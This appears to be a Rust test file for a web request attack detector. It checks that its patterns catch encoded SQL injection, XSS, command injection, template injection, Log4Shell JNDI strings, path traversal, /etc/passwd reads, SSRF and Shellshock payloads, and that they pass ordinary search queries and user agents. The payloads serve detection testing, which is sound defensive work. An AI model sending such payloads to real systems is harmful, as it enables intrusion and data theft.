//! Each pattern finds its example; what people send is found by none.

use super::*;

fn fires(target: &str) -> bool {
    PATTERNS.as_ref().expect("the patterns").finds_in_target(target.as_bytes())
}

fn fires_in_header(header: &str) -> bool {
    PATTERNS.as_ref().expect("the patterns").finds_in_header(header.as_bytes(), false)
}

#[test]
fn every_attack_is_found_by_its_own_pattern() {
    for attack in ATTACKS.into_iter().flatten() {
        let own = Regex::new(&format!("(?is-u){}", attack.pattern)).unwrap_or_else(|error| panic!("{}: {error}", attack.name));
        let text = target_text(attack.example.as_bytes());
        let text = if attack.place == Place::Tight { text::tight(&text) } else { text };
        assert!(own.is_match(&text), "{}: {}", attack.name, String::from_utf8_lossy(&text));
        let fires = if attack.place == Place::Header { fires_in_header } else { fires };
        assert!(fires(attack.example), "{} passes for an ordinary request", attack.name);
        assert!(!attack.source.is_empty(), "{}", attack.name);
        assert_eq!(ATTACKS.into_iter().flatten().filter(|other| other.name == attack.name).count(), 1, "{}", attack.name);
    }
    for class in [Class::Sql, Class::Script, Class::Command, Class::File] {
        assert!(ATTACKS.into_iter().flatten().any(|attack| attack.class == class));
    }
}

#[test]
fn what_is_hidden_is_seen() {
    for target in [
        "/a?id=1%27%20oR%20%271%27=%271",
        "/a?id=1%2527+UNION+SELECT+1",
        "/a?id=1/**/union/**/select/**/1",
        "/a?id=1%0aunion%0aselect%0a1",
        "/a?q=%u003cscript%u003e",
        "/a?q=%26lt%3bscript%26gt%3b",
        "/a?q=%EF%BC%9Cscript%EF%BC%9E",
        "/a?q=java%0ascript:alert(1)",
        "/a?q=\\u003cimg src=x onerror=1",
        "/a?x=%26%26id",
        "/a?x=;c%27a%27t%20/etc/x",
        "/a?x=%7b%7b7*7%7d%7d",
        "/a?x=$%7B$%7Blower:j%7Dndi:dns://192.0.2.1%7D",
        "/..%252f..%252f..%252fx",
        "/a?file=%2fetc%2fpasswd",
        "/a?url=http://[::1]/x",
    ] {
        assert!(fires(target), "{target}");
    }
    for header in ["' or 1=1--", "<script>x</script>", "${jndi:ldap://192.0.2.1/a}", "() { :; }; /bin/id", "x' and sleep(5)#"] {
        assert!(fires_in_header(header), "{header}");
    }
}

#[test]
fn what_people_send_is_no_attack() {
    for target in [
        "/",
        "*",
        "/index.html?a=1&id=5&set=2",
        "/?C=D;O=A",
        "/search?q=rock+and+roll",
        "/search?q=O%27Reilly",
        "/search?q=select+a+gift+from+europe",
        "/search?q=union+square+select+hotels",
        "/search?q=5+or+6",
        "/search?q=a+%3C+b",
        "/search?q=ArrayList%3CString%3E",
        "/search?q=AT%26T",
        "/search?q=%22exact+phrase%22+or+%22another+one%22",
        "/search?q=order+by+phone",
        "/search?q=drop+a+table+off",
        "/search?q=how+to+use+sleep+in+python",
        "/search?q=%7B%7Bname%7D%7D",
        "/%7B%7Bitem.url%7D%7D",
        "/price?x=$%7Bamount%7D",
        "/search?q=c%23+tutorial",
        "/search?q=50%25+off",
        "/search?q=it%27s+me+and+you",
        "/search?q=don%27t+or+won%27t",
        "/search?redirect=../../login",
        "/docs/man/etc/hosts.html",
        "/login?next=https%3A%2F%2Fwww.host.example%2Faccount",
        "/callback?redirect_uri=http://localhost:8080/cb",
        "/javascript:void(0)",
        "/javascript:history.back()",
        "/javascript:;",
        "/wiki/Foo_(bar)",
        "/wiki/C%2B%2B",
        "/a,b;c=d/e",
        "/x?filter[name]=a&sort[]=b",
        "/x?data=%7B%22a%22:1,%22b%22:%5B2,3%5D%7D",
        "/x?date=2024-01-01T00:00:00%2B02:00",
        "/x?e=user@host.example",
        "/x?t=a|b|c",
        "/x?title=Tom+%26+Jerry",
        "/x?title=set+%26+setting",
        "/~user/a.b-c_d.html#part",
        "/x?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
        "/x?q=%E4%BD%A0%E5%A5%BD",
    ] {
        assert!(!fires(target), "{target}");
    }
    for header in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (compatible; ExampleBot/1.0; +http://host.example/bot.html)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 2.0; 'x')",
        "Tom's client; find and replace & more",
        "curl/8.0 | test",
        "App/1.0 [en] (iPhone; iOS 17)",
    ] {
        assert!(!fires_in_header(header), "{header}");
    }
}
